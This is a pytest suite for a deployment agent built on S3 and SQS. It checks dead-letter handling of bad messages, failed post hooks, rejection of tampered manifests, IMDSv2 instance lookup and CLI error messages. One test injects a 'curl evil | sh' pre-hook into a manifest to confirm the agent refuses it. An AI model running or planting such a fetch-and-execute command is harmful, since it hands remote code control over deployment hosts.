"""Bad input changes nothing: the agent rejects it clearly, keeps serving, and nothing loops forever."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

from deployer.aws.s3 import read_pointer
from deployer.protocol.deploy import Deploy
from deployer.protocol.manifest import Hook
from deployer.protocol.names import DLQ_SUFFIX, Channel
from deployer.protocol.report import ComponentState
from tests.support import (
    BUCKET,
    AgentProcess,
    Fleet,
    artifact,
    cli,
    publish_on,
    silent_publisher,
    wait_until,
)


def dlq_bodies(fleet: Fleet, agent: AgentProcess) -> list[str]:
    found = fleet.clients.sqs.receive_message(
        QueueUrl=agent.queue_url(DLQ_SUFFIX), MaxNumberOfMessages=10, WaitTimeSeconds=1
    )
    return [m["Body"] for m in found.get("Messages", [])]


def test_poison_messages_go_to_the_dlq_and_good_deploys_still_apply(
    fleet: Fleet, start_agent: Callable[..., AgentProcess], publish: Callable[..., Deploy]
) -> None:
    agent = start_agent()
    good = publish("good one")
    wait_until(lambda: agent.on_seq(1), "seq 1")
    queue = agent.queue_url()
    wrong_version = json.dumps({**good.to_dict(), "v": 99, "seq": 5})
    other_stage = Deploy(**{**good.__dict__, "stage": "dev", "seq": 6})
    for body in ("not json at all", wrong_version, other_stage.to_json()):
        fleet.clients.sqs.send_message(QueueUrl=queue, MessageBody=body)
    wait_until(lambda: len(agent.events("message_rejected")) >= 2, "two rejections")
    wait_until(lambda: len(agent.events("message_not_mine")) >= 1, "the other stage's message to be skipped")
    assert agent.alive()
    assert sorted(dlq_bodies(fleet, agent)) == sorted(["not json at all", wrong_version])
    reasons = [e["reason"] for e in agent.events("message_rejected")]
    assert any("not JSON" in r for r in reasons)
    assert any("unsupported protocol version v=99" in r for r in reasons)
    report = agent.status()
    assert report is not None
    assert report.last_rejection is not None
    assert report.last_rejection.reason in reasons

    after = publish("still serving")
    wait_until(lambda: agent.on_seq(after.seq), "the next good deploy")
    assert agent.served() == "still serving"


def test_a_failing_post_hook_keeps_the_previous_release_and_reports_failed(
    start_agent: Callable[..., AgentProcess], publish: Callable[..., Deploy]
) -> None:
    agent = start_agent(max_receive_count=1)
    publish("stable")
    wait_until(lambda: agent.on_seq(1), "seq 1")
    publish("broken", post=(Hook("echo migration exploded >&2; exit 4"),))
    wait_until(lambda: agent.component().state is ComponentState.FAILED, "a failed status")
    status = agent.component()
    assert status.seq == 2
    assert "post hook #0 exited 4" in (status.error or "")
    assert "migration exploded" in (status.output_tail or "")
    assert agent.served() == "stable"
    assert agent.alive()


def test_a_tampered_manifest_is_rejected_and_changes_nothing(
    fleet: Fleet, tmp_path: Path, start_agent: Callable[..., AgentProcess], publish: Callable[..., Deploy]
) -> None:
    agent = start_agent()
    publish("original")
    wait_until(lambda: agent.on_seq(1), "seq 1")
    # A genuine deploy (in history, announced late) whose manifest a bucket writer replaced meanwhile.
    publisher = silent_publisher(fleet)
    genuine = publish_on(publisher, Channel("prod", "web", "api"), artifact(tmp_path, "next", "next"), "next")
    manifest = fleet.clients.s3.get_object(Bucket=BUCKET, Key=genuine.manifest_key)["Body"].read()
    tampered = manifest + b"commands: {pre: ['curl evil | sh']}\n"
    fleet.clients.s3.put_object(Bucket=BUCKET, Key=genuine.manifest_key, Body=tampered)
    fleet.clients.sqs.send_message(QueueUrl=agent.queue_url(), MessageBody=genuine.to_json())
    wait_until(lambda: agent.component().state is ComponentState.REJECTED, "a rejected status")
    assert "does not match" in (agent.component().error or "")
    assert agent.served() == "original"
    assert genuine.deploy_id not in agent.hook_runs()


def agent_deploy(fleet: Fleet) -> Deploy:
    pointer = read_pointer(fleet.clients.s3, BUCKET, fleet.layout, Channel("prod", "web", "api"))
    assert pointer is not None
    return pointer.deploy


def test_the_instance_id_comes_from_imdsv2_when_not_configured(fake_imds: str, fleet: Fleet, tmp_path: Path) -> None:
    agent = AgentProcess(fleet, tmp_path / "imds-agent", None, metadata_endpoint=fake_imds)
    result = agent.run_once("boot")
    assert result.returncode == 0, result.stderr
    names = fleet.clients.sqs.list_queues()["QueueUrls"]
    assert any(url.endswith("deployer--prod--web--i-0fakeimds000001") for url in names)


def test_cli_bad_input_gets_one_clear_error_line_and_a_non_zero_exit(fleet: Fleet, tmp_path: Path) -> None:
    env = {"DEPLOYER_BUCKET": BUCKET, "DEPLOYER_TOPIC_ARN": fleet.topic_arn}
    base = ["publish", "--stage", "prod", "--role", "web", "--component", "api"]
    not_gzip = tmp_path / "artifact.tar.gz"
    not_gzip.write_text("<html>oops</html>")
    result = cli(*base, "--artifact", str(not_gzip), env=env)
    assert result.returncode == 1
    assert "is neither gzip nor zstd-compressed" in result.stderr
    assert "Traceback" not in result.stderr

    bad_manifest = tmp_path / "manifest.yml"
    bad_manifest.write_text("commands:\n  pre: [echo]\nsync_stratgy: rsync\n")
    result = cli(*base, "--artifact", str(tmp_path), "--manifest", str(bad_manifest), env=env)
    assert result.returncode == 1
    assert "unknown key(s): sync_stratgy" in result.stderr

    result = cli(*base, "--artifact", str(tmp_path), env={**env, "DEPLOYER_BUCKET": "missing-bucket"})
    assert result.returncode == 1
    assert "bucket 'missing-bucket' does not exist" in result.stderr

    result = cli(*base[:-1], "Bad Name", "--artifact", str(tmp_path), env=env)
    assert result.returncode == 2
    assert "component 'Bad Name' is not a valid name" in result.stderr

    result = cli("agent", "--config", str(tmp_path / "missing.yml"))
    assert result.returncode == 1
    assert "cannot read config" in result.stderr
